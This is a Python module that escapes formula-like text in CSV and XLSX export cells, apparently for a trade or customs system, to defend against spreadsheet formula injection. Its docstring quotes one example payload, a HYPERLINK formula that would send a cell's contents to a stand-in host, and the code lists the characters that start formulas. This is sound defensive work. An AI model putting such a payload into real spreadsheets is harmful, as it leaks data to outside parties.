"""
Cells for spreadsheets we hand out (CSV and XLSX exports): text that a spreadsheet program would read as a formula
is written as text. Party names, goods descriptions and references come from exporters and other states; a name
such as `=HYPERLINK("http://x/?"&A1)` must reach an official's Excel as the words it is, never as a live formula.

The one home of that rule: every CSV and XLSX export passes its cells through `spreadsheet_cell`.
"""
import re
import unicodedata
from datetime import date, datetime
from decimal import Decimal

# OWASP (CSV injection): cells starting with = + - @ or a tab or carriage return are formulas to Excel, LibreOffice
# and Google Sheets. They also look past leading spaces and read full-width signs (＝, ＋) as the ASCII ones.
FORMULA_STARTS = frozenset("=+-@")
CONTROL_STARTS = frozenset("\t\r\n")
# A plain number written as text (-12.5, +3) is not a formula; it stays as written.
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def _first_visible(text: str) -> str:
    """The first character a spreadsheet parser acts on: past spaces, zero-width and other format characters."""
    for char in text:
        if char.isspace() or unicodedata.category(char) in ("Cf", "Cc", "Zs", "Zl", "Zp"):
            continue
        return unicodedata.normalize("NFKC", char)[:1]
    return ""


def formula_like(text: str) -> bool:
    """Would a spreadsheet program evaluate this text (or part of it) as a formula?"""
    if not text:
        return False
    if text[0] in CONTROL_STARTS:
        return True
    if _first_visible(text) not in FORMULA_STARTS:
        return False
    return not PLAIN_NUMBER.fullmatch(text.strip())


def spreadsheet_cell(value):
    """The value as a spreadsheet cell: numbers and dates as they are, text that would be a formula prefixed with
    an apostrophe (OWASP's escaping: the spreadsheet shows the text and evaluates nothing), None as empty."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal, date, datetime)):
        return value
    text = str(value)
    return "'" + text if formula_like(text) else text
